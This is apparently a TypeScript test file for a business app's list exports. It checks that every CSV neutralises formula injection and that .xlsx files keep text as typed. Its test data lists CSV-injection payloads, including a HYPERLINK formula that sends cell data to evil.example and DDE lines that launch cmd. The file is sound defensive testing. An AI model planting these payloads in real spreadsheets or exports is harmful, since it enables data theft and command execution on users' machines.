// CSV formula injection (issue 41): every CSV the server offers, generated from the export definitions
// (LISTAS_EXPORTABLES), writes a text that starts like a formula (=, +, -, @, tab, carriage return) after a single
// quote and quoted, in its cells (the CSV is the table alone: the title and filter lines, a search among them, are
// the .xlsx's); its amounts keep their minus sign as numbers; the .xlsx keeps the text as typed, in its cells and its
// search line. One expense made and exported through the API shows the same end to end.
import { mensajes } from '@aguavend/contract/messages';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { useTestApp } from '../../../test/helpers.ts';
import type { ParamsLista } from '../../db/listas.ts';
import { type Archivo, type ColumnaArchivo, csv, xlsx } from './archivos.ts';
import { LISTAS_EXPORTABLES } from './listas.ts';

const t = await useTestApp();
const TZ = 'America/Mexico_City';
const l = mensajes.listas;

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"ver")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];
/** What each number column holds in a row, negative, as the database hands it over, and as the CSV writes it. */
const NUMEROS: Record<Exclude<ColumnaArchivo['tipo'], 'texto' | 'fechaHora'>, [unknown, string]> = {
  entero: [-3, '-3'],
  dinero: ['-12.5', '-12.50'],
  tasa: ['-0.375', '-0.3750'],
  porcentaje: [-12.5, '-12.5'],
};
/** The parameters of the lists worked out whole (a new one must be added here). */
const CALCULADAS: Record<string, ParamsLista> = {
  reporte: { por: 'maquina', desde: '2026-03-01', hasta: '2026-03-31' },
};

async function bytes(s: NodeJS.ReadableStream) {
  const partes: Buffer[] = [];
  for await (const p of s) partes.push(Buffer.from(p as Buffer));
  return Buffer.concat(partes);
}

async function* unLote(filas: Record<string, unknown>[]) {
  yield filas;
}

/**
 * A list's file with a hostile text in every text cell and in a search line, a negative number in every number
 * cell: its own title, filters and column types, each column read straight from its row (`leer` words stored
 * values; what it returns reaches the same writer).
 */
async function archivoHostil(nombre: string): Promise<Archivo> {
  const def = LISTAS_EXPORTABLES[nombre as keyof typeof LISTAS_EXPORTABLES];
  const propio =
    'calcular' in def
      ? await def.calcular(t.database.db, CALCULADAS[nombre] ?? {}, TZ)
      : { titulo: def.titulo, columnas: def.columnas, filtros: [] };
  const columnas = propio.columnas.map((c, i) => ({ titulo: c.titulo, campo: `c${i}`, tipo: c.tipo }));
  const filas = FORMULAS.map((f) =>
    Object.fromEntries(
      columnas.map((c) => [
        c.campo,
        c.tipo === 'texto' ? f : c.tipo === 'fechaHora' ? '2026-03-01T06:10:00Z' : NUMEROS[c.tipo][0],
      ]),
    ),
  );
  return {
    titulo: propio.titulo,
    filtros: [...propio.filtros, ...FORMULAS.map((f): [string, string] => [l.filtroBusqueda, f])],
    columnas,
    lotes: unLote(filas),
    totales: Object.fromEntries(columnas.filter((c) => c.tipo in NUMEROS).map((c) => [c.campo, -7])),
    etiquetaTotales: l.totales,
    tz: TZ,
  };
}

/** How a neutralised text is written: a single quote before it, the whole cell quoted. */
const citado = (f: string) => `"'${f.replaceAll('"', '""')}"`;

describe('every CSV export', () => {
  it('covers each list that can be exported, the ones worked out whole included', () => {
    const calculadas = Object.entries(LISTAS_EXPORTABLES).filter(([, d]) => 'calcular' in d);
    expect(calculadas.map(([n]) => n)).toEqual(Object.keys(CALCULADAS));
  });

  for (const nombre of Object.keys(LISTAS_EXPORTABLES)) {
    it(`${nombre}: a text that starts like a formula is quoted after a single quote; numbers keep their sign`, async () => {
      const a = await archivoHostil(nombre);
      const texto = (await bytes(csv(a))).toString('utf8');
      const filas = parse(texto, { bom: true }) as string[][];
      const peligrosas = filas
        .flat()
        .filter((c) => /^[=+\-@\t\r＝＋－＠]/.test(c) && !/^-\d+(\.\d+)?$/.test(c));
      expect(peligrosas).toEqual([]);
      for (const f of FORMULAS) {
        const veces = texto.split(citado(f)).length - 1;
        // Each text column's cell.
        expect(veces, f).toBe(a.columnas.filter((c) => c.tipo === 'texto').length);
      }
      const tabla = filas.slice(1);
      expect(tabla).toHaveLength(FORMULAS.length);
      for (const [i, c] of a.columnas.entries()) {
        if (!(c.tipo in NUMEROS)) continue;
        const escrito = NUMEROS[c.tipo as keyof typeof NUMEROS][1];
        expect(
          tabla.map((f) => f[i]),
          c.titulo,
        ).toEqual(FORMULAS.map(() => escrito));
      }
    });
  }

  it('leaves the .xlsx as typed: the text itself in a text cell', async () => {
    const a = await archivoHostil('egresos');
    const libro = new ExcelJS.Workbook();
    await libro.xlsx.load((await bytes(xlsx(a))) as unknown as ArrayBuffer);
    const hoja = libro.worksheets[0];
    const valores = hoja?.getColumn(2).values.filter((v) => typeof v === 'string');
    // XML reads a carriage return as a line feed: that one is left out.
    expect(valores).toEqual(expect.arrayContaining(FORMULAS.filter((f) => !f.includes('\r'))));
  });
});

describe("an operator's expense in the ADMIN's export", () => {
  it('is neutralised in the CSV, and stays as typed in the .xlsx, in its cell and its search line', async () => {
    const admin = await t.login();
    const formula = FORMULAS[0] as string;
    const id_maquina = (await t.post('/maquina/new', { nombre: 'Fórmulas', estatus: 'ACTIVA' }, admin)).body
      .resultados[0].id_maquina;
    const id_categoria_transaccion = (await t.post('/cat/categorias/trans/new', { tipo: 'LUZ' }, admin)).body
      .resultados[0].id_categoria_transaccion;
    const nuevo = await t.post(
      '/egresos/new',
      { id_maquina, id_categoria_transaccion, descripcion: formula, monto: 10 },
      admin,
    );
    expect(nuevo.status, JSON.stringify(nuevo.body)).toBe(200);
    const descargar = async (formato: string) => {
      const e = await t.post('/egresos', { id_maquina, buscar: formula, formato }, admin);
      return t.app.inject({ method: 'GET', url: e.body.resultados[0].url });
    };
    const texto = (await descargar('csv')).body;
    expect(texto.split(citado(formula)).length - 1).toBe(1);
    const filas = parse(texto, { bom: true }) as string[][];
    expect(filas.slice(1).map((f) => f[3])).toEqual([`'${formula}`]);
    const libro = new ExcelJS.Workbook();
    await libro.xlsx.load((await descargar('xlsx')).rawPayload as unknown as ArrayBuffer);
    expect(libro.worksheets[0]?.getColumn(4).values).toContain(formula);
    const lineas = (libro.worksheets[0]?.getSheetValues() ?? []).map((f) =>
      (f as unknown[] | undefined)?.slice(1, 3),
    );
    expect(lineas).toContainEqual([l.filtroBusqueda, formula]);
  });
});
